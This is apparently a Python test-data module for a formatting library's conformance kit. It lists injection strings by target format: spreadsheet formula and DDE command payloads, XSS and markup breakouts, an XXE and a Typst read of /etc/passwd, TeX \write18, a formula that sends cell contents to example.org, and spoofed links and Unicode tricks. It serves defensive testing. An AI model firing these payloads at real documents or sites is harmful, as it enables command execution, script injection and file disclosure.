"""Payloads: words that a careless format makes more of than words, by their kind.

One list for the conformance kit and for the tests of the formats that come with almwp.
"""

import unicodedata
from collections.abc import Mapping
from types import MappingProxyType

TAG = "almwp-hostile"
"""A tag, and an attribute, that only payloads bring."""
FORMULA = 'HYPERLINK("http://example.org","x")'
"""A formula that only payloads bring."""
LONGEST_CELL = 32_767
"""Units of UTF-16 that a cell of Excel can hold."""

_FORMULAS = (
    f"={FORMULA}",
    f"+{FORMULA}",
    f"-{FORMULA}",
    f"@{FORMULA}",
    f" ={FORMULA}",
    f"\t={FORMULA}",
    f"\r={FORMULA}",
    f"\n={FORMULA}",
    f"\u00a0={FORMULA}",
    f"\u200b={FORMULA}",
    f"\ufeff={FORMULA}",
    f"\x00={FORMULA}",
    f"\uff1d{FORMULA}",
    f"\uff0b{FORMULA}",
    f"'={FORMULA}",
    f'"={FORMULA}',
    "@SUM(1+1)",
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    '=DDE("cmd";"/C calc";"x")',
    '=IMPORTXML(CONCAT("http://example.org/?",A1),"//a")',
    '=IMAGE("http://example.org/x.png")',
    '=WEBSERVICE("http://example.org/x")',
    "{=SUM(A1:A9)}",
    "-2+3",
    "=1+1",
)
_CSV = (
    'one","=1+1',
    "one\r\n=1+1",
    "one;=1+1",
    "one\t=1+1",
    "one|=1+1",
    '"',
    '""="',
    "sep=;",
)
_MARKUP = (
    f"<{TAG} onclick=x>",
    f"</script></style></title><{TAG}>",
    f"</textarea></svg></table><{TAG}>",
    f"\"'><{TAG}>",
    f"--><{TAG}>",
    f"]]><{TAG}>",
    f"' {TAG}='x",
    f'" {TAG}="x',
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<iframe src=http://example.org></iframe>",
    "<base href=http://example.org>",
    "<meta http-equiv=refresh content=0;url=http://example.org>",
    "<a href=javascript:alert(1)>x</a>",
    '<form action="http://example.org"><button>',
    "<plaintext>",
    "<!-- open",
    "<![CDATA[ open",
    "<?xml version='1.0'?>",
    "<?php echo 1 ?>",
    '<!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]>',
    "&y; &#0; &#x1f; &lt;b&gt; &amp; &",
    "{{ 7*7 }} {% raw %} ${7*7} %s %(x)s {0} {page} {}",
    '"} @import url(//example.org); {',
    "\\3c/style\\3e",
)
_LINKS = (
    f"javascript:{TAG}",
    "JaVaScRiPt:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "file:///etc/passwd",
    "\\\\example.org\\share\\x",
    "mailto:somebody@example.org?subject=x",
    "somebody@example.org",
    "//example.org/x",
    "www.example.org",
    "http://example.org/x'onmouseover='alert(1)",
    'http://example.org/"><script>alert(1)</script>',
    "https://asean.org@example.org/x",
    "https://as\u0435an.org/x",
    "https://example.org/\u202egpj.exe",
    "internal:'Sheet1'!A1",
    "external:c:\\x.xlsx",
    "#Sheet1!A1",
)
_MARKDOWN = (
    "[x](http://example.org)",
    "![x](http://example.org/x.png)",
    "[x](javascript:alert(1))",
    "[x]: http://example.org",
    "[^1]: note",
    "[^1]",
    "<http://example.org>",
    "a | b",
    "| a |\n|---|\n| b |",
    "# heading",
    "heading\n===",
    "heading\n---",
    "***",
    "- point",
    "* point",
    "+ point",
    "1. point",
    "1) point",
    "> quoted",
    "    code",
    "\tcode",
    "`code` and ``more``",
    "```\ncode\n```",
    "~~~\ncode",
    "**strong** _soft_ ~~gone~~ ==marked==",
    "line  \nline",
    "back\\",
    "\\[x](http://example.org)",
    "<details><summary>x</summary>",
    ": meaning",
    "$x_1$ and $$y$$ and \\(z\\)",
    "{{< x >}} ::: {note}",
)
_TYPESETTING = (
    f"\\input{{{TAG}}} $x_1$ 5% #",
    "\\write18{calc}",
    '#read("/etc/passwd")',
    '#include "x.typ"',
    '#image("x.png") #link("http://example.org")[x]',
    '"); #panic("x',
    "<label> @label $x$ = heading",
    "] #[ } { ) ( // gone /* gone",
)
_WORD = (
    '{ HYPERLINK "http://example.org" }',
    '{ INCLUDETEXT "c:\\\\x.docx" }',
    "{ DDEAUTO c:\\\\x.exe }",
    "\x13 PAGE \x14 1 \x15",
    "{\\rtf1{\\field{\\*\\fldinst x}}}",
    "</w:t></w:r><w:r><w:fldSimple w:instr='PAGE'/>",
    "_x000D_ _x0041_ _x005F_",
    '&G &P &"Arial" &A',
)
_JSON = (
    '"}], "x": [{"',
    '\\" \\u0022 \\',
    "null",
    "NaN -Infinity 1e400",
    "__proto__",
    "</script>\u2028\u2029",
)
_CHARACTERS = (
    "null \x00 bell \x07 backspace \x08 escape \x1b[31m",
    "\x1b]0;title\x07\x1b[2J",
    "delete \x7f next \x85 order \x9b31m",
    "lines \u2028 paragraphs \u2029 feeds \x0b \x0c",
    "turned \u202egro.elpmaxe",
    "all \u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069",
    "zero\u200bwidth\u200c\u200djoined\u2060\ufeff",
    "\ufeffmark",
    "half \ud800 of a \udc9b pair",
    "no character \ufffe \uffff \ufdd0 \U0001ffff",
    "tags \U000e0041\U000e0042\U000e007f",
    "between \ufff9a\ufffab\ufffb",
    unicodedata.normalize("NFD", "Đào tạo nghề Việt"),
    "\ufb01 \u2460 \uff46\uff55\uff4c\uff4c A\u030a",
    "flood " + "a" + "\u0301\u0316\u0489" * 40,
    "العربية עברית a",
    "👩🏽\u200d🔧 🇻🇳",
    "a/b\\c:d*e?f<g>h|i;j,k'l!m[n]o",
    "..\\..\\con.txt",
    "line one\nline two\r\nline three\rline four",
    " spaces  around \t ",
    "\u00a0",
    "a-word-without-any-place-to-break-" * 8,
)
_LONG = (
    "word " * (LONGEST_CELL // 5) + "is",
    "word " * (LONGEST_CELL // 5) + "is one more",
)

PAYLOADS: Mapping[str, tuple[str, ...]] = MappingProxyType(
    {
        "markup": _MARKUP,
        "formula": _FORMULAS,
        "table": _CSV,
        "link": _LINKS,
        "markdown": _MARKDOWN,
        "typesetting": _TYPESETTING,
        "word": _WORD,
        "json": _JSON,
        "character": _CHARACTERS,
        "long": _LONG,
    }
)
"""All payloads, by what it is that takes them for more than words."""


def payloads() -> tuple[str, ...]:
    """Return all payloads but the long ones, each once."""
    short = (words for kind, words in PAYLOADS.items() if kind != "long")
    return tuple(dict.fromkeys(text for words in short for text in words))
